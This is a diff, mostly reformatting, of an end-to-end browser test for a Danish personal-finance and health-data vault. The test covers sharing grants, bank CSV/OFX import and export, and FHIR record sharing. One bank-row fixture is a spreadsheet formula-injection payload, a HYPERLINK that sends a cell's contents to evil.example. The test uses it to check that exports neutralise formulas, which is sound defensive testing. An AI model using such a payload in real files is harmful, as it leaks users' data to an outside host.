@@ -19,7 +19,16 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { generateIdentity, openBundle, transactionsToOfx } from '../../src/bundle/index';
 import { parseFhir } from '../../src/importers/health/fhir/parse';
 import { da as RECEIVER_DA } from '../../src/receiver-page/i18n/da';
-import { fhirJsComplaints, fhirSchemaErrors, HLEDGER_RULES, hledgerRead, libreofficeRead, ofxdumpRead, ofxparseRead, withFiles } from '../unit/support/stock-tools';
+import {
+  fhirJsComplaints,
+  fhirSchemaErrors,
+  HLEDGER_RULES,
+  hledgerRead,
+  libreofficeRead,
+  ofxdumpRead,
+  ofxparseRead,
+  withFiles,
+} from '../unit/support/stock-tools';
 import { chromiumPath, type ChromiumSession } from './harness/chromium';
 import { addNote, chromiumForThisFile, createVault, DA, keepPagesOnFailure, screenshotPath, text, textCount, expectAccessible } from './harness/vault-ui';
 import { reportCleanupFailure } from '../unit/support/cleanup';
@@ -151,7 +160,10 @@ describe('sharing in Chromium', () => {
     const ledger = page.getByRole('list', { name: DA['sharing.grants.listLabel'] });
     const grant = ledger.getByRole('listitem').filter({ hasText: 'Advokat Jensen' }).first();
     await grant.getByText(DA['sharing.grants.status.active'], { exact: true }).waitFor();
-    await page.getByRole('list', { name: DA['sharing.log.listLabel'] }).getByText(text(DA, 'sharing.log.type.share', { recipient: 'Advokat Jensen', purpose: 'Hjælp til madbudget' })).waitFor();
+    await page
+      .getByRole('list', { name: DA['sharing.log.listLabel'] })
+      .getByText(text(DA, 'sharing.log.type.share', { recipient: 'Advokat Jensen', purpose: 'Hjælp til madbudget' }))
+      .waitFor();
 
     const popup = await session.openPage('popup.html');
     await popup.getByRole('button', { name: DA['popup.whoHas'] }).click();
@@ -166,11 +178,17 @@ describe('sharing in Chromium', () => {
     await dialog.getByText(text(DA, 'sharing.grants.revokeConfirm', { name: 'Advokat Jensen' })).waitFor();
     await expectAccessible(page, 'revoke confirmation');
     await dialog.getByRole('button', { name: DA['sharing.grants.revoke'] }).click();
-    await page.getByRole('status').filter({ hasText: text(DA, 'sharing.grants.revokedNoEndpoint', { name: 'Advokat Jensen' }) }).waitFor();
+    await page
+      .getByRole('status')
+      .filter({ hasText: text(DA, 'sharing.grants.revokedNoEndpoint', { name: 'Advokat Jensen' }) })
+      .waitFor();
     await grant.getByText(DA['sharing.grants.status.revoked'], { exact: true }).waitFor();
 
     await page.getByRole('button', { name: DA['sharing.log.verify'] }).click();
-    await page.getByRole('status').filter({ hasText: textCount(DA, 'sharing.log.valid', 2) }).waitFor();
+    await page
+      .getByRole('status')
+      .filter({ hasText: textCount(DA, 'sharing.log.valid', 2) })
+      .waitFor();
     await expectAccessible(page, 'sharing after revoking');
 
     const popupAfter = await session.openPage('popup.html');
@@ -193,23 +211,39 @@ describe('sharing in Chromium', () => {
       { d: 18, text: '=HYPERLINK("https://evil.example/?"&A1;"Klik")', amount: '-0,00', ore: 0 },
       { d: 19, text: '+45 MobilePay fra Søren; "tak"', amount: '1.250.000,00', ore: 125_000_000 },
     ];
-    const csv = ['"Dato";"Tekst";"Beløb";"Saldo";"Status";"Afstemt"', ...ROWS.map((r, i) => `"${day(r.d)}";"${r.text.replace(/"/g, '""')}";"${r.amount}";"${20_000 + i},00";"Udført";"Nej"`)].join('\r\n');
+    const csv = [
+      '"Dato";"Tekst";"Beløb";"Saldo";"Status";"Afstemt"',
+      ...ROWS.map((r, i) => `"${day(r.d)}";"${r.text.replace(/"/g, '""')}";"${r.amount}";"${20_000 + i},00";"Udført";"Nej"`),
+    ].join('\r\n');
     await page.getByRole('navigation', { name: DA['header.sections'] }).getByRole('button', { name: DA['section.money'] }).click();
-    await page.getByLabel(DA['money.import.fileLabel']).setInputFiles({ name: 'danske-bank.csv', mimeType: 'text/csv', buffer: Buffer.from(`${csv}\r\n`, 'latin1') });
+    await page
+      .getByLabel(DA['money.import.fileLabel'])
+      .setInputFiles({ name: 'danske-bank.csv', mimeType: 'text/csv', buffer: Buffer.from(`${csv}\r\n`, 'latin1') });
     await page.getByRole('heading', { name: DA['money.preview.heading'] }).waitFor({ timeout: 60_000 });
     await page.getByRole('button', { name: textCount(DA, 'money.preview.import', ROWS.length) }).click();
-    await page.locator('.money-import [role="status"]').filter({ hasText: text(DA, 'money.import.done.other', { count: ROWS.length, account: 'Danske Bank' }) }).waitFor({ timeout: 60_000 });
+    await page
+      .locator('.money-import [role="status"]')
+      .filter({ hasText: text(DA, 'money.import.done.other', { count: ROWS.length, account: 'Danske Bank' }) })
+      .waitFor({ timeout: 60_000 });
     // A second account, from a bank file that names it by its IBAN.
     const IBAN = 'DK5000400440116243';
     const OTHER = [
       { d: 5, text: 'Overførsel; "husleje"', ore: -650_000 },
       { d: 12, text: '@Lønkonto Ærø', ore: 2_500_000 },
     ];
-    const ofxFile = transactionsToOfx(OTHER.map((r) => ({ date: iso(r.d), amountMinor: r.ore, currency: 'DKK', text: r.text, account: IBAN })), { now: new Date() });
-    await page.getByLabel(DA['money.import.fileLabel']).setInputFiles({ name: 'loenkonto.ofx', mimeType: 'application/x-ofx', buffer: Buffer.from(ofxFile, 'utf8') });
+    const ofxFile = transactionsToOfx(
+      OTHER.map((r) => ({ date: iso(r.d), amountMinor: r.ore, currency: 'DKK', text: r.text, account: IBAN })),
+      { now: new Date() },
+    );
+    await page
+      .getByLabel(DA['money.import.fileLabel'])
+      .setInputFiles({ name: 'loenkonto.ofx', mimeType: 'application/x-ofx', buffer: Buffer.from(ofxFile, 'utf8') });
     await page.getByRole('heading', { name: DA['money.preview.heading'] }).waitFor({ timeout: 60_000 });
     await page.getByRole('button', { name: textCount(DA, 'money.preview.import', OTHER.length) }).click();
-    await page.locator('.money-import [role="status"]').filter({ hasText: textCount(DA, 'money.import.done', OTHER.length, { account: 'DK50 0040 0440 1162 43' }) }).waitFor({ timeout: 60_000 });
+    await page
+      .locator('.money-import [role="status"]')
+      .filter({ hasText: textCount(DA, 'money.import.done', OTHER.length, { account: 'DK50 0040 0440 1162 43' }) })
+      .waitFor({ timeout: 60_000 });
     /** Every shared row in data.json's order (by date), with the account it names: the number, or the name of an account without one. */
     const ALL = [...ROWS.map((r) => ({ ...r, account: 'Danske Bank' })), ...OTHER.map((r) => ({ ...r, account: IBAN }))].sort((a, b) => a.d - b.d);
     /** The same rows as the OFX copy lists them: account by account (Danske Bank's first row comes first). */
@@ -230,16 +264,24 @@ describe('sharing in Chromium', () => {
 
     // The approval names the copies as well as the rows, and that the account goes with them.
     await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.approve'] }).waitFor();
-    await page.locator('ul.approval-items li').filter({ hasText: new RegExp(`^${ALL.length} posteringer`) }).filter({ hasText: DA['sharing.field.account'] }).waitFor();
-    await expect.poll(() => page.locator('ul.approval-copies li').allTextContents()).toEqual([
-      text(DA, 'sharing.copy.csv', { name: 'transactions.csv' }),
-      text(DA, 'sharing.copy.ofx', { name: 'transactions.ofx' }),
-    ]);
+    await page
+      .locator('ul.approval-items li')
+      .filter({ hasText: new RegExp(`^${ALL.length} posteringer`) })
+      .filter({ hasText: DA['sharing.field.account'] })
+      .waitFor();
+    await expect
+      .poll(() => page.locator('ul.approval-copies li').allTextContents())
+      .toEqual([text(DA, 'sharing.copy.csv', { name: 'transactions.csv' }), text(DA, 'sharing.copy.ofx', { name: 'transactions.ofx' })]);
     await expectAccessible(page, 'wizard: approval with copies');
     const { file, opened } = await approveDownloadAndOpen(page, 'tx-');
     const [entry] = opened.data.transactions as { accounts: unknown[]; rows: { date: string; amountMinor: number; text: string; account: string }[] }[];
-    expect(entry!.rows.map((r) => ({ ...r, amountMinor: r.amountMinor + 0 }))).toEqual(ALL.map((r) => ({ date: iso(r.d), amountMinor: r.ore, currency: 'DKK', text: r.text, account: r.account })));
-    expect(entry!.accounts).toEqual([{ id: 'Danske Bank', name: 'Danske Bank' }, { id: IBAN, name: 'DK50 0040 0440 1162 43', number: IBAN }]);
+    expect(entry!.rows.map((r) => ({ ...r, amountMinor: r.amountMinor + 0 }))).toEqual(
+      ALL.map((r) => ({ date: iso(r.d), amountMinor: r.ore, currency: 'DKK', text: r.text, account: r.account })),
+    );
+    expect(entry!.accounts).toEqual([
+      { id: 'Danske Bank', name: 'Danske Bank' },
+      { id: IBAN, name: 'DK50 0040 0440 1162 43', number: IBAN },
+    ]);
 
     // The receiver page, in a plain browser: the copies are listed and come back byte for byte.
     plain = await chromium.launch({ executablePath: chromiumPath(), headless: true, args: ['--headless=new', '--no-sandbox', '--disable-gpu'] });
@@ -248,7 +290,10 @@ describe('sharing in Chromium', () => {
     expect(links).toEqual(['data.json', 'transactions.csv', 'transactions.ofx'].map((name) => RECEIVER_DA['files.download'].replace('{name}', name)));
     await files.getByText(RECEIVER_DA['files.kind.transactions.csv'], { exact: false }).waitFor();
     for (const name of ['transactions.csv', 'transactions.ofx']) {
-      const [got] = await Promise.all([receiver.waitForEvent('download'), files.getByRole('link', { name: RECEIVER_DA['files.download'].replace('{name}', name) }).click()]);
+      const [got] = await Promise.all([
+        receiver.waitForEvent('download'),
+        files.getByRole('link', { name: RECEIVER_DA['files.download'].replace('{name}', name) }).click(),
+      ]);
       expect(got.suggestedFilename()).toBe(name);
       const bytes = readFileSync((await got.path())!);
       expect(new Uint8Array(bytes)).toEqual(opened.files.find((f) => f.path === `files/${name}`)!.bytes);
@@ -256,14 +301,18 @@ describe('sharing in Chromium', () => {
         expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
         const parsed = Papa.parse<Record<string, string>>(bytes.toString('utf8').slice(1).trim(), { header: true, delimiter: ';' });
         // A text a spreadsheet would take for a formula is marked as text; the exact one is in data.json.
-        expect(parsed.data.map((r) => [r.date, r.amount, r.text, r.account])).toEqual(ALL.map((r) => [iso(r.d), (r.ore / 100).toFixed(2).replace('.', ','), /^[=+@]/.test(r.text) ? `'${r.text}` : r.text, r.account]));
+        expect(parsed.data.map((r) => [r.date, r.amount, r.text, r.account])).toEqual(
+          ALL.map((r) => [iso(r.d), (r.ore / 100).toFixed(2).replace('.', ','), /^[=+@]/.test(r.text) ? `'${r.text}` : r.text, r.account]),
+        );
         // The tools receivers use read the downloaded file: hledger with a rules file, LibreOffice with the Danish filter.
         const ledger = withFiles({ 't.csv': bytes, 't.rules': HLEDGER_RULES }, (dir) => hledgerRead(join(dir, 't.csv'), join(dir, 't.rules')));
         expect([ledger.status, ledger.stderr]).toEqual([0, '']);
         expect(ledger.rows.map((r) => r.ore)).toEqual(ALL.map((r) => r.ore));
         const sheet = withFiles({ 't.csv': bytes }, (dir) => libreofficeRead(join(dir, 't.csv'))).slice(1);
         expect(sheet.flat().filter((c) => c.formula !== null)).toEqual([]);
-        expect(sheet.map((r) => [r[0]!.type, r[2]!.type, Math.round(Number(r[2]!.value) * 100), r[9]!.text])).toEqual(ALL.map((r) => ['date', 'float', r.ore, r.account]));
+        expect(sheet.map((r) => [r[0]!.type, r[2]!.type, Math.round(Number(r[2]!.value) * 100), r[9]!.text])).toEqual(
+          ALL.map((r) => ['date', 'float', r.ore, r.account]),
+        );
       } else {
         expect(bytes.toString('utf8').match(/<TRNAMT>[^<]+<\/TRNAMT>/g)).toEqual(BY_ACCOUNT.map((r) => `<TRNAMT>${(r.ore / 100).toFixed(2)}</TRNAMT>`));
         // python3-ofxparse and libofx's ofxdump read every account and every row with its exact text.
@@ -282,16 +331,65 @@ describe('sharing in Chromium', () => {
       resourceType: 'Bundle',
       type: 'collection',
       entry: [
-        { resource: { resourceType: 'Observation', id: 'hba1c-1', status: 'final', code: { coding: [{ system: 'http://loinc.org', code: '59261-8', display: 'Hemoglobin A1c/Hemoglobin.total in Blood' }], text: 'HbA1c (IFCC); "æøå"' }, effectiveDateTime: daysAgo(10), valueQuantity: { value: 48, unit: 'mmol/mol' } } },
-        { resource: { resourceType: 'Condition', id: 'cond-1', clinicalStatus: { coding: [{ code: 'active' }] }, code: { text: 'Type 2-diabetes' }, onsetDateTime: '2019-04-01' } },
-        { resource: { resourceType: 'MedicationStatement', id: 'med-1', status: 'active', medicationCodeableConcept: { text: 'Metformin 500 mg' }, dosage: [{ text: '1 tablet morgen og aften' }] } },
-        { resource: { resourceType: 'AllergyIntolerance', id: 'all-1', clinicalStatus: { coding: [{ code: 'active' }] }, code: { text: 'Penicillin' }, reaction: [{ manifestation: [{ text: 'Udslæt' }] }] } },
-        { resource: { resourceType: 'Immunization', id: 'imm-1', status: 'completed', vaccineCode: { text: 'Influenzavaccine' }, occurrenceDateTime: daysAgo(40) } },
+        {
+          resource: {
+            resourceType: 'Observation',
+            id: 'hba1c-1',
+            status: 'final',
+            code: {
+              coding: [{ system: 'http://loinc.org', code: '59261-8', display: 'Hemoglobin A1c/Hemoglobin.total in Blood' }],
+              text: 'HbA1c (IFCC); "æøå"',
+            },
+            effectiveDateTime: daysAgo(10),
+            valueQuantity: { value: 48, unit: 'mmol/mol' },
+          },
+        },
+        {
+          resource: {
+            resourceType: 'Condition',
+            id: 'cond-1',
+            clinicalStatus: { coding: [{ code: 'active' }] },
+            code: { text: 'Type 2-diabetes' },
+            onsetDateTime: '2019-04-01',
+          },
+        },
+        {
+          resource: {
+            resourceType: 'MedicationStatement',
+            id: 'med-1',
+            status: 'active',
+            medicationCodeableConcept: { text: 'Metformin 500 mg' },
+            dosage: [{ text: '1 tablet morgen og aften' }],
+          },
+        },
+        {
+          resource: {
+            resourceType: 'AllergyIntolerance',
+            id: 'all-1',
+            clinicalStatus: { coding: [{ code: 'active' }] },
+            code: { text: 'Penicillin' },
+            reaction: [{ manifestation: [{ text: 'Udslæt' }] }],
+          },
+        },
+        {
+          resource: {
+            resourceType: 'Immunization',
+            id: 'imm-1',
+            status: 'completed',
+            vaccineCode: { text: 'Influenzavaccine' },
+            occurrenceDateTime: daysAgo(40),
+          },
+        },
       ],
     };
     await page.getByRole('navigation', { name: DA['header.sections'] }).getByRole('button', { name: DA['section.health'] }).click();
-    await page.getByLabel(DA['health.import.fileLabel']).setInputFiles({ name: 'journal.json', mimeType: 'application/fhir+json', buffer: Buffer.from(JSON.stringify(journal)) });
-    await page.getByRole('region', { name: /^Fundet i / }).getByRole('button', { name: DA['health.summary.save'] }).click();
+    await page
+      .getByLabel(DA['health.import.fileLabel'])
+      .setInputFiles({ name: 'journal.json', mimeType: 'application/fhir+json', buffer: Buffer.from(JSON.stringify(journal)) });
+    await page
+      .getByRole('region', { name: /^Fundet i / })
+      .getByRole('button', { name: DA['health.summary.save'] })
+      .click();
     await page.getByText(text(DA, 'health.import.saved', { file: 'journal.json' })).waitFor({ timeout: 60_000 });
 
     await page.getByRole('navigation', { name: DA['header.sections'] }).getByRole('button', { name: DA['section.sharing'] }).click();
@@ -314,7 +412,10 @@ describe('sharing in Chromium', () => {
     await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();
 
     await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.approve'] }).waitFor();
-    await page.locator('ul.approval-items li').filter({ hasText: /^Sundhedsdata .*1 måling fra læge eller hospital; 3 journaloplysninger \(diagnoser, medicin, allergier\)$/ }).waitFor();
+    await page
+      .locator('ul.approval-items li')
+      .filter({ hasText: /^Sundhedsdata .*1 måling fra læge eller hospital; 3 journaloplysninger \(diagnoser, medicin, allergier\)$/ })
+      .waitFor();
     await expect.poll(() => page.locator('ul.approval-copies li').allTextContents()).toEqual([text(DA, 'sharing.copy.fhir', { name: 'health.fhir.json' })]);
     await expectAccessible(page, 'wizard: approval with the FHIR copy');
     const { file, opened } = await approveDownloadAndOpen(page, 'health-');
@@ -323,9 +424,14 @@ describe('sharing in Chromium', () => {
     expect(JSON.stringify(opened.data)).not.toContain('Influenzavaccine');
 
     const { receiver, files } = await openOnReceiverPage(plain!, file);
-    expect(await files.getByRole('link').allTextContents()).toEqual(['data.json', 'health.fhir.json'].map((name) => RECEIVER_DA['files.download'].replace('{name}', name)));
+    expect(await files.getByRole('link').allTextContents()).toEqual(
+      ['data.json', 'health.fhir.json'].map((name) => RECEIVER_DA['files.download'].replace('{name}', name)),
+    );
     await files.getByText(RECEIVER_DA['files.kind.health.fhir.json'], { exact: false }).waitFor();
-    const [got] = await Promise.all([receiver.waitForEvent('download'), files.getByRole('link', { name: RECEIVER_DA['files.download'].replace('{name}', 'health.fhir.json') }).click()]);
+    const [got] = await Promise.all([
+      receiver.waitForEvent('download'),
+      files.getByRole('link', { name: RECEIVER_DA['files.download'].replace('{name}', 'health.fhir.json') }).click(),
+    ]);
     expect(got.suggestedFilename()).toBe('health.fhir.json');
     const bytes = readFileSync((await got.path())!);
     expect(new Uint8Array(bytes)).toEqual(opened.files.find((f) => f.path === 'files/health.fhir.json')!.bytes);
